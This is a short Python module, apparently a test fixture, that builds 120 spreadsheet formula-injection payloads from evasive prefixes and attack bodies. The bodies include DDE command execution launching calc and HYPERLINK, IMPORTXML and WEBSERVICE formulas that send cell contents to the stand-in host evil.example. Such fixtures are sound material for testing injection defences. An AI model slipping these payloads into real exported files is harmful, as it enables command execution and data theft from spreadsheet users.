"""Texts that a spreadsheet might carry out, in the ways that are known."""

from __future__ import annotations

from itertools import product

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "　=", "＝", "＋", "－", "＠", "\xa0=", "  \t@")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"点我领奖")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    '"quoted",=1+1',
    "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
PAYLOADS = tuple(start + body for start, body in product(STARTS, BODIES))
"""A hundred and twenty of them."""
